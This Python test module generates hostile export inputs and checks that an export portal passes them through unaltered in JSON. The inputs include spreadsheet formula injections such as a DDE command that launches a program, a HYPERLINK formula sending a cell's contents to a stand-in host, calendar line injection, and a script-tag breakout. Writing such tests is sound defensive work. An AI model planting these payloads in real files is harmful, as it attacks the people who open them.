"""Texts that a spreadsheet or a calendar would take for something else: they leave the portal as they came in."""

from __future__ import annotations

import json
import random
from collections.abc import Iterator

from tests.corpus._case import Case, front, risk

ROW = "exports"


def cases(chance: random.Random) -> Iterator[Case]:
    """Formulas, commands, signs and long texts, as a cause of a risk, read back from the exported JSON."""
    number = chance.randint(2, 99)
    for name, text in {
        "a formula": f"=1+{number}",
        "a formula with a link": '=HYPERLINK("https://e.invalid/"&A1,"x")',
        "a command": "=cmd|' /C calc'!A0",
        "a plus": f"+{number}",
        "a minus": f"-{number}",
        "an at sign": "@SUM(1+1)",
        "a tab and a formula": "\t=1+1",
        "a line end and a formula": "\r=1+1",
        "a full-width formula": "＝1+1",
        "a text of 19 000 characters": "x" * 19_000,
        "line ends of a calendar": "a\r\nEND:VCALENDAR\r\nBEGIN:VEVENT",
        "marks of a calendar": "a;b,c:d\\n",
        "marks of a table": 'a,"b"\n;c',
        "a script's end": "</script><script>x</script>",
        "a line separator": "a\u2028b\u2029c",
        "a character beyond the first plane": "\U0001f600\U0010ffff",
    }.items():
        written = json.dumps(text)  # JSON is YAML; characters beyond ASCII are escaped
        if name == "a character beyond the first plane":
            written = '"\\U0001f600\\U0010ffff"'
        yield risk(ROW, f"{name}, exported", front(f"cause: {written}"), exit=0, reads={"cause": text})
    huge = "1" + "0" * 400
    yield risk(
        ROW,
        "a number of 401 digits, exported",
        front(f"quantified: {{probability: 1%, cost: ⟦PM024⟧{huge}}}"),
    )
